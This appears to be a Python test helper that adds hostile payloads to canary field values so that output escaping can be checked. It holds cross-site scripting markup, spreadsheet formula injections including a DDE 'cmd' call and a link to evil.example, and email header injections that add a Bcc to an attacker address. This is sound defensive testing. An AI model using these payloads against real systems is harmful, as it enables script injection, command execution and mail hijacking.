"""Which record has something hostile in every text that a person wrote?

The history is that of the canaries (tests/access/canaries.py, which puts a word into every field there is); each word
carries one of a pack with it. All is told through the doors, which take such texts, as they must: harmless is made what
is written out, never what is kept.
"""

from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from itertools import cycle
from unittest.mock import patch

from esc_tracker.accounts.models import Role, User
from tests.access import canaries

# An address of mail and the host of a link are told whole; only their own rules may refuse them.
NOT_FREE = {("User", "email"), ("Nomination", "email"), ("Person", "email"), ("StatusUpdate", "evidence_link")}

# Each would run, open something or make an element if it were written out as it stands. `__ran` says that one did.
MARKUP = (
    "<script>__ran()</script>",
    "</script><script>__ran()</script>",
    "<svg/onload=__ran()><zq-made>",
    "<img src=x onerror=__ran()>",
    "\"><zq-made onclick='__ran()'>",
    "' onmouseover='__ran()' autofocus onfocus='__ran()",
    "javascript:__ran()//",
    "--><zq-made>__ran()]]><!--",
    "{{__ran()}}{% now 'Y' %}${7*7}<%=7*7%>",
    "</title></textarea></style><zq-made>__ran()",
    "</pre></td></table><iframe srcdoc='<script>__ran()</script>'>",
    "\uff1cscript\uff1e__ran()\uff1c/script\uff1e\u00ad",
    "&lt;zq-made&gt;&#60;zq-made&#62;__ran()",
    "<zq-made style='background:url(javascript:__ran())'>",
    "<a href='data:text/html,<script>__ran()</script>'>x</a>",
    "</text></svg><math><mtext><zq-made>__ran()",
    "</noscript><base href=//__ran().example><meta http-equiv=refresh content=0>",
    "\\u003cscript\\u003e__ran()\\x3c/script\\x3e`${__ran()}`",
    "<style>*{background:url(//evil.example)}</style>expression(__ran())",
    "[x](javascript:__ran()) <!--#exec cmd=x --> <?php __ran() ?>",
)
FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example","x")',
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(A1)",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u00a0=1+1",
    "\u2060+1",
    "\u3000@A1",
    "\u2028=1+1",
    "'=1+1",
    '"=1+1',
    ";=1+1",
    "%0A=1+1",
    "http://evil.example/",
    "internal:'x'!A1",
    "{=1+1}",
    "007",
    "1e5",
    "_x000D_=1",
    "\ufffe=1",
)
HEADERS = (
    "%0d%0aBcc: evil@evil.example ",
    "=?utf-8?q?x=0d=0aBcc:_evil@evil.example?= ",
    "=?utf-8?b?DQpCY2M6IGV2aWxAZXZpbC5leGFtcGxl?= ",
    "\\r\\nBcc: evil@evil.example ",
    '"evil" <evil@evil.example>, ',
    "\u0130\u5350\U0001f469\u200d\U0001f52c ",
    "\u560d\u560aBcc: evil@evil.example ",  # Whose last bytes are those of a line break.
    "a" * 60 + " ",
    "evil@evil.example; evil2@evil.example ",
    ".\u00a0MIME-Version: 1.0 ",
)
MANY_LINES = (
    "\r\nBcc: evil@evil.example\r\n\r\n.\r\n--x\r\nContent-Type: text/html\r\n\r\n",
    "\n.\nQUIT\n",
    "\n=1+1\n\t@A1",
)
LINES_FIT = {
    *(("StatusUpdate", name) for name in ("statement", "reason", "needed", "remark")),
    *(("Note", name) for name in ("text:esc", "text:own", "text:other")),
    *(("WeeklyReport", name) for name in ("narrative", "asks", "reason", "coac_narrative:released")),
    *(("TargetRevision", "text"), ("Question", "text"), ("Conclusion", "text"), ("DueOut", "text")),
}


@contextmanager
def carrying(pack: Sequence[str], *, first: bool = False, lines: Sequence[str] = ()) -> Iterator[dict[str, str]]:
    """Within the block each canary carries one of a pack, before it or after; gives what was carried by its field."""
    carried: dict[str, str] = {}
    plain, each, more = canaries.canary, cycle(pack), cycle(lines or [""])

    def hostile(model: str, field: str) -> str:
        word = plain(model, field)
        if (model, field) in NOT_FREE:
            return word
        extra = next(more) if (model, field) in LINES_FIT else ""
        payload = carried.setdefault(f"{model}.{field}", next(each)) + extra
        return f"{payload}{word}" if first else f"{word}{payload}"

    with patch.object(canaries, "canary", hostile):
        yield carried


def tell_hostile(pack: Sequence[str], *, first: bool = False, lines: Sequence[str] = ()) -> dict[str, User]:
    """Tell the history of the canaries with a pack, and give its people."""
    with carrying(pack, first=first, lines=lines) as carried:
        people = canaries.tell_with_canaries()
    assert len(carried) > 50
    assert Role.COAC_READER in {person.role for person in people.values()}
    return people
